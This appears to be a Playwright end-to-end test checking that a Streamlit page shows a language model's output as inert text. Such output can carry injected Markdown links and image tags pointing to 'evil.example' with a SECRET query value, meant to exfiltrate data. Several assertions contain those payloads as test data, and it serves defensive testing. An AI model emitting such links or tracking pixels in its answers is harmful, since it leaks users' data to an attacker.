"""A browser without our headers draws a model's text, and fetches and follows nothing of it."""

import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, Route, expect

from core.settings import CHECKOUT
from tests.e2e.browsing import running_app
from tests.unit.assistant_text.page_reading import cases

SCRIPT = Path(__file__).with_name("model_text_page.py")
# Notes all that is ever drawn, also for a moment, and could fetch or lead somewhere.
WATCH = """
window.drawn = [];
const active = 'a, audio, base, embed, form, iframe, image, img, input, link, object, script, source, style, video';
const note = (element) => {
  if (element.matches?.(active) && element.closest('[data-testid="stMain"]')) window.drawn.push(element.outerHTML);
};
new MutationObserver((changes) => changes.forEach((change) => {
  if (change.type === 'attributes') note(change.target);
  change.addedNodes.forEach((node) => { note(node); node.querySelectorAll?.(active).forEach(note); });
})).observe(document, { childList: true, subtree: true, attributes: true, attributeFilter: ['href', 'src', 'style'] });
"""

# What the page makes of Markdown, and of its own additions to it, that no answer may use.
UNUSED = "h1, h2, h3, h4, h5, h6, del, sup, .katex, [role=img], .stMarkdownColoredText, .stMarkdownColoredBackground"

pytestmark = pytest.mark.browser


@dataclass
class Look:
    """A tab, what it asked other hosts for and what it drew."""

    page: Page
    address: str
    other_hosts: list[str] = field(default_factory=list)

    def draw(self, way: str) -> None:
        self.page.goto(f"{self.address}/?way={way}")
        expect(self.page.get_by_text("All is drawn.")).to_be_visible(timeout=90_000)
        self.page.wait_for_timeout(1_000)

    def drawn(self) -> list[str]:
        return list(self.page.evaluate("window.drawn"))

    def texts(self) -> list[str]:
        return [
            " ".join(self.page.locator(f".st-key-case_{place}").inner_text().split()) for place in range(len(cases()))
        ]

    def count(self, selector: str) -> int:
        return self.page.get_by_test_id("stMain").locator(selector).count()

    def guard(self, route: Route, request: Request) -> None:
        if request.url.startswith((self.address, "data:", "blob:")):
            route.continue_()
        else:
            self.other_hosts.append(request.url)
            route.abort()


@pytest.fixture(scope="module")
def page_address() -> Iterator[str]:
    def start(port: int) -> list[str]:
        streamlit = str(Path(sys.executable).with_name("streamlit"))
        return [streamlit, "run", str(SCRIPT), "--server.port", str(port), "--server.address", "127.0.0.1"]

    with running_app(start=start, PYTHONPATH=str(CHECKOUT)) as running:
        yield running.address


@pytest.fixture(scope="module")
def tabs(browser: Browser) -> Iterator[BrowserContext]:
    """One for all, since a new one would fetch Streamlit's scripts anew."""
    with browser.new_context() as tabs:
        yield tabs


@pytest.fixture
def look(tabs: BrowserContext, page_address: str) -> Iterator[Look]:
    page = tabs.new_page()
    look = Look(page, page_address)
    page.route("**/*", look.guard)
    page.add_init_script(WATCH)
    yield look
    page.close()


def test_no_injection_is_fetched_or_drawn_as_more_than_text(look: Look) -> None:
    look.draw("whole")
    assert look.other_hosts == []
    assert look.drawn() == []
    assert look.count(UNUSED) == 0
    shown = "\n".join(look.texts())
    assert "Read the report (https://evil.example/report?d=SECRET)." in shown
    assert '<img src="https://evil.example/pixel.png">' in shown


def test_no_injection_is_fetched_or_drawn_while_it_comes_in_pieces(look: Look) -> None:
    look.draw("streamed")
    assert look.other_hosts == []
    assert look.drawn() == []
    assert look.count(UNUSED) == 0
    assert look.count(".stMarkdownBadge") >= 2


def test_none_of_it_depends_on_our_headers(look: Look) -> None:
    reply = look.page.goto(look.address)
    assert reply is not None
    assert "content-security-policy" not in reply.headers


def test_the_page_would_fetch_and_draw_it_as_it_is(look: Look) -> None:
    look.draw("raw")
    assert len(look.other_hosts) >= 10
    assert look.count(UNUSED) >= 10
    drawn = "".join(look.drawn())
    assert '<a href="https://evil.example/report?d=SECRET"' in drawn
    assert "<img" in drawn
